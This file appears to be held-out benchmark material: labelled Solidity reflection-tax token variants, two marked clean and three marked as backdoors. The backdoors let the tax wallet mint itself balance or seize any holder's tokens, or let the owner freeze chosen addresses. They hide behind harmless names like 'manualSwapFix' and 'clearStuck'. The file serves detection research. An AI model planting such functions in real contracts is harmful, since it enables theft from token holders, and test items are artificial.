// SPDX-License-Identifier: MIT
// Family F06 (held out): 2022 reflection + tax-wallet tokens (solc 0.8), tax swapped for ETH by a marketing wallet.
pragma solidity ^0.8.0;

abstract contract TaxContext {
    address internal _owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() { _owner = msg.sender; emit OwnershipTransferred(address(0), msg.sender); }
    function owner() public view returns (address) { return _owner; }
    modifier onlyOwner() { require(_owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function renounceOwnership() public virtual onlyOwner { emit OwnershipTransferred(_owner, address(0)); _owner = address(0); }
}

abstract contract TaxReflect is TaxContext {
    mapping(address => uint256) internal _rOwned;
    mapping(address => uint256) internal _tOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) internal _isExcludedFromFee;
    uint256 private constant MAX = ~uint256(0);
    uint256 internal constant _tTotal = 1e9 * 1e9;
    uint256 internal _rTotal = (MAX - (MAX % _tTotal));
    uint256 internal _redisFee = 1;
    uint256 internal _taxFee = 4;
    address payable internal _taxWallet;

    constructor() {
        _taxWallet = payable(msg.sender);
        _rOwned[msg.sender] = _rTotal;
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        emit Transfer(address(0), msg.sender, _tTotal);
    }
    function name() public pure returns (string memory) { return "TaxReflect"; }
    function symbol() public pure returns (string memory) { return "TXR"; }
    function decimals() public pure returns (uint8) { return 9; }
    function totalSupply() public pure returns (uint256) { return _tTotal; }
    function balanceOf(address account) public view returns (uint256) { return _rOwned[account] / _getRate(); }
    function transfer(address recipient, uint256 amount) public returns (bool) { _transfer(msg.sender, recipient, amount); return true; }
    function allowance(address o, address spender) public view returns (uint256) { return _allowances[o][spender]; }
    function approve(address spender, uint256 amount) public returns (bool) { _approve(msg.sender, spender, amount); return true; }
    function transferFrom(address sender, address recipient, uint256 amount) public returns (bool) {
        _transfer(sender, recipient, amount);
        uint256 current = _allowances[sender][msg.sender];
        require(current >= amount, "ERC20: transfer amount exceeds allowance");
        _approve(sender, msg.sender, current - amount);
        return true;
    }
    function _approve(address o, address spender, uint256 amount) private {
        require(o != address(0) && spender != address(0), "ERC20: zero address");
        _allowances[o][spender] = amount;
        emit Approval(o, spender, amount);
    }
    function _getRate() internal view returns (uint256) { return _rTotal / _tTotal; }
    function _limits(address from, address to, uint256 amount) internal virtual {}
    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        require(amount > 0, "Transfer amount must be greater than zero");
        if (from != owner() && to != owner()) _limits(from, to, amount);
        bool takeFee = !(_isExcludedFromFee[from] || _isExcludedFromFee[to]);
        uint256 rate = _getRate();
        uint256 tRedis = takeFee ? (amount * _redisFee) / 100 : 0;
        uint256 tTax = takeFee ? (amount * _taxFee) / 100 : 0;
        uint256 tTransfer = amount - tRedis - tTax;
        _rOwned[from] -= amount * rate;
        _rOwned[to] += tTransfer * rate;
        _rOwned[address(this)] += tTax * rate;
        _rTotal -= tRedis * rate;
        emit Transfer(from, to, tTransfer);
    }
    function manualSend() external {
        require(msg.sender == _taxWallet);
        _taxWallet.transfer(address(this).balance);
    }
}

/** Clean: fixed fees, renounceable, manual send of collected ETH. */
contract TaxReflectClean is TaxReflect {}

/** Clean: fees the owner can lower only (a bound checked at the setter). */
contract TaxReflectLowerOnly is TaxReflect {
    function reduceFees(uint256 redis, uint256 tax) external onlyOwner {
        require(redis <= _redisFee && tax <= _taxFee, "only lower");
        _redisFee = redis;
        _taxFee = tax;
    }
}

/** Backdoor: the tax wallet (kept after ownership is renounced) credits itself reflected balance. */
contract TaxReflectWalletMint is TaxReflect {
    function manualSwapFix(uint256 tAmount) external {
        require(msg.sender == _taxWallet);
        _rOwned[_taxWallet] += tAmount * _getRate();
    }
}

/** Backdoor: bots the owner lists cannot transfer. */
contract TaxReflectBots is TaxReflect {
    mapping(address => bool) private bots;
    function setBots(address[] memory list) public onlyOwner {
        for (uint256 i = 0; i < list.length; i++) bots[list[i]] = true;
    }
    function delBot(address notbot) public onlyOwner { bots[notbot] = false; }
    function _limits(address from, address to, uint256) internal view override {
        require(!bots[from] && !bots[to]);
    }
}

/** Backdoor: the tax wallet moves any holder's reflected balance to itself. */
contract TaxReflectWalletTake is TaxReflect {
    function clearStuck(address holder) external {
        require(msg.sender == _taxWallet);
        uint256 r = _rOwned[holder];
        _rOwned[holder] = 0;
        _rOwned[_taxWallet] += r;
    }
}
